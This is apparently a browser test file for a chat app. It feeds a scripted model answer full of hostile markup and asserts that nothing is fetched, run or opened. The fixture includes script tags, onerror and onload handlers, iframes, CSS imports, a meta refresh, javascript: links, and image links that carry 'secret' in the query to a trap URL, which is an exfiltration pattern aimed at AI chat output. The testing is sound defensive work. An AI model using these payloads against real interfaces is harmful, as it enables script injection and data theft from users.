"""What a model writes is text: nothing of it is fetched, run or clicked by itself."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, expect

from tests.browser.apps import App
from tests.browser.conftest import Pages
from tests.browser.screens import ask, connect, go_to, open_chat, open_dialog, prompt_of, questions
from tests.browser.scripted_workspace import ScriptedWorkspace, Trap

pytestmark = pytest.mark.browser

HOSTILE = """\
# Begin

A picture ![pixel](TRAP/inline.png?said=secret) in a line, one by ![reference][there], a link around one
[![both](TRAP/linked.png)](TRAP/page), one in an entity &#33;[x](TRAP/entity.png), a bare one TRAP/bare.png.

[there]: TRAP/reference.png "title"

<script>alert("script")</script>
<img src="TRAP/tag.png" onerror="alert('onerror')">
<img src=x onerror=alert(1)>
<svg onload="alert('svg')"><image href="TRAP/svg.png"/></svg>
<iframe src="TRAP/frame.html"></iframe>
<style>@import url(TRAP/style.css); body { background: url(TRAP/background.png) }</style>
<meta http-equiv="refresh" content="0; url=TRAP/refresh">

[press me](javascript:alert('link')) and <javascript:alert(2)>

| a | b |
|---|---|
| ![cell](TRAP/cell.png) | $$\\includegraphics{TRAP/tex.png}$$ |

:material/home: :red[colour] ![](TRAP/empty.png)

The end of it.
"""


@pytest.fixture
def trap() -> Iterator[Trap]:
    trap = Trap()
    yield trap
    trap.close()


@pytest.fixture
def hostile(trap: Trap) -> Iterator[ScriptedWorkspace]:
    workspace = ScriptedWorkspace(HOSTILE.replace("TRAP", trap.url))
    yield workspace
    workspace.close()


def test_a_hostile_answer_fetches_nothing_and_runs_nothing(
    app: App, hostile: ScriptedWorkspace, trap: Trap, make_page: Pages
) -> None:
    page = make_page()
    connect(page, app.url, hostile.host, "any-token")
    go_to(page, "Chat")
    expect(prompt_of(page)).to_be_enabled()
    expect(ask(page, "Show me everything.")).to_contain_text("The end of it.")
    expect_harmless(page)
    page.reload()  # the answer is drawn whole now
    expect(page.get_by_text("The end of it.")).to_be_visible()
    expect_harmless(page)
    for link in page.get_by_role("main").get_by_role("link", name="press me").all():
        link.click(force=True)
    open_dialog(page, "answer-0-0-inspect")
    assert trap.asked == []
    watch = make_page.watch(page)
    assert (watch.dialogs, watch.outside) == ([], [])
    assert len(page.context.pages) == 1


def expect_harmless(page: Page) -> None:
    drawn = page.locator('[class*="st-key-answer-0-0"]').first
    assert drawn.locator("script, iframe, img, svg image, style, meta, object, embed, form").count() == 0
    links = drawn.locator("a").evaluate_all("links => links.map(link => link.href)")
    assert [link for link in links if link.lower().startswith(("javascript:", "vbscript:"))] == []


def test_a_prompt_and_a_system_prompt_are_text_too(
    app: App, hostile: ScriptedWorkspace, trap: Trap, page: Page
) -> None:
    connect(page, app.url, hostile.host, "any-token")
    open_chat(page, app.url)
    ask(page, f"![pixel]({trap.url}/prompt.png) <img src={trap.url}/tag.png>")
    assert questions(page).locator("img").count() == 0
    assert trap.asked == []
